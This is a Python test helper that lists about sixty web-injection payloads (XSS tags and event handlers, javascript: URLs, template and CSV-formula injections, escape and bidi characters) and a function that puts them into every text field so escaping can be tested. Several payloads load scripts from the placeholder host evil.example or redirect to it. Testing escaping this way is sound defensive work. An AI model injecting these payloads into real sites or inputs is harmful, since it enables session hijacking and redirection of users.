"""Words that would do harm where they are not shown as words, and runs that carry them everywhere."""

from __future__ import annotations

from dataclasses import fields, is_dataclass, replace
from datetime import date, datetime
from decimal import Decimal
from enum import Enum

PAYLOADS = (
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    '"><script>alert(1)</script>',
    "'><script>alert(1)</script>",
    '" onmouseover="alert(1)',
    "' onmouseover='alert(1)",
    "` onmouseover=`alert(1)",
    " onfocus=alert(1) autofocus ",
    '" style="position:fixed',
    '" id="numbers',
    "</title><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "</code></td></tr></table><h1>owned</h1>",
    "</details></details><h1>owned</h1>",
    "</main></body></html><script>alert(1)</script>",
    "<!-- <script>alert(1)</script>",
    "--><script>alert(1)</script>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php echo 1 ?>",
    "<iframe src=javascript:alert(1)>",
    "<object data=x>",
    "<embed src=x>",
    "<link rel=stylesheet href=//evil.example>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href=//evil.example/>",
    "<form action=//evil.example><input type=submit>",
    "<a href=javascript:alert(1)>x</a>",
    "<math><mi xlink:href='javascript:alert(1)'>x</mi></math>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<style>*{display:none}</style>",
    "javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "&quot;&gt;&lt;img src=x&gt;",
    "\x00<script>alert(1)</script>",
    "<scr\x00ipt>alert(1)</scr\x00ipt>",
    "\x1b]0;owned\x07\x1b[31mred",
    "\u202egnirts\u202c",
    "\u2066hidden\u2069\u200b\ufeff",
    "{{ 7 * 7 }}{% raw %}",
    "${7*7}#{7*7}<%= 7*7 %>",
    "| a | b |\n|---|---|\n| <script>alert(1)</script> |",
    "[click](javascript:alert(1)) ![x](//evil.example/x.png)",
    "`code` **bold** __bold__ ~~gone~~ # head",
    "\n\n# Heading\n\n- item\n\n```html\n<script>\n```\n",
    "@everyone #1 https://evil.example www.evil.example",
    "\r\n> quote\r\n\r\n<h1>owned</h1>",
    "\ud800<b>lone</b>",
    "é😀 中文 عربى",
    '=HYPERLINK("//evil.example")',
    "A" * 3000,
)


def poisoned(value, payload):
    """`value` with every free text in it replaced; numbers, times and closed words stay."""
    if isinstance(value, (bool, int, float, Decimal, date, datetime, Enum)) or value is None:
        return value
    if isinstance(value, str):
        return payload
    if isinstance(value, tuple):
        return tuple(poisoned(each, payload) for each in value)
    if isinstance(value, dict):
        return {f"{payload}{key}": poisoned(each, payload) for key, each in value.items()}
    assert is_dataclass(value)
    return replace(value, **{each.name: poisoned(getattr(value, each.name), payload) for each in fields(value)})
